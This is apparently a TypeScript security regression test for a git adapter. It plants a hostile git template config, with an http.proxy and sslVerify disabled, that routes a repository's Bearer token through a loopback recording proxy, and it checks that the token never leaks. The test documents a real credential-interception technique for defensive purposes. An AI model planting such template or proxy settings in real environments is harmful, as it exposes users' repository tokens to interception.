/**
 * Attack: the durable adapter's promotion builds its commit in a scratch repository it creates with an
 * UNSEALED `git init` (src/adapters/artifacts/durable.ts `applyCommit`), so the environment's
 * `GIT_TEMPLATE_DIR` (or a global `init.templateDir`) chooses that repository's configuration. The
 * repo-token git commands that follow are sealed, but a sealed git still reads the repository's own
 * configuration: a template's `http.proxy` routes the request carrying `Authorization: Bearer <repo
 * token>` through a proxy of the attacker's choosing (with `http.sslVerify=false` it could read HTTPS
 * too). Real git, the loopback Artifacts stand-in, and a loopback "proxy" that records headers.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { CloudflareArtifactsDurableAdapter } from '../../../src/adapters/artifacts/durable.ts'
import { gitBlobId, memoryBlobSource, utf8 } from '../contract/fixtures.ts'
import { fastImportCommit } from '../local/fixtures.ts'
import { artifactsHarness } from './harness.ts'

const cleanups: (() => Promise<void> | void)[] = []
const savedTemplateDir = process.env.GIT_TEMPLATE_DIR
afterEach(async () => {
  if (savedTemplateDir === undefined) delete process.env.GIT_TEMPLATE_DIR
  else process.env.GIT_TEMPLATE_DIR = savedTemplateDir
  for (const fn of cleanups.splice(0).reverse()) await fn()
})

/** A loopback HTTP "proxy" that records the Authorization header of every request and answers 502. */
async function recordingProxy() {
  const seen: (string | null)[] = []
  const server: Server = createServer((req, res) => {
    seen.push(req.headers.authorization ?? null)
    res.writeHead(502)
    res.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  cleanups.push(() => new Promise<void>((resolve) => server.close(() => resolve())))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen }
}

describe('the repo token of a durable promotion', () => {
  it('never goes through a proxy named by a git template the environment chose', async () => {
    const { standIn, client } = await artifactsHarness()
    cleanups.push(() => standIn.stop())
    const gitDir = standIn.seedRepo('durable')
    const base = fastImportCommit(gitDir, { branch: 'main', files: { 'a.txt': 'a\n' } })
    const proxy = await recordingProxy()
    const template = mkdtempSync(join(tmpdir(), 'gittrix-hostile-template-'))
    cleanups.push(() => rmSync(template, { recursive: true, force: true }))
    writeFileSync(join(template, 'config'), `[http]\n\tproxy = ${proxy.url}\n\tsslVerify = false\n`)
    // What an agent running as the same user leaves for a later process (or ~/.gitconfig init.templateDir).
    process.env.GIT_TEMPLATE_DIR = template

    const durable = new CloudflareArtifactsDurableAdapter({ client, repo: 'durable', branch: 'main' })
    cleanups.push(() => durable.close())
    const bytes = utf8('promoted\n')
    await durable
      .applyCommit({
        branch: 'main',
        parent: base,
        expectedOld: base,
        paths: [{ path: 'a.txt', mode: '100644', oid: gitBlobId(bytes) }],
        blobs: memoryBlobSource([bytes]),
        message: 'promote\n',
      })
      .catch(() => undefined)
    // Fails today: the fetch of the parent goes through the template's proxy with the Bearer token.
    expect(proxy.seen.filter((auth) => auth?.startsWith('Bearer '))).toEqual([])
  })
})
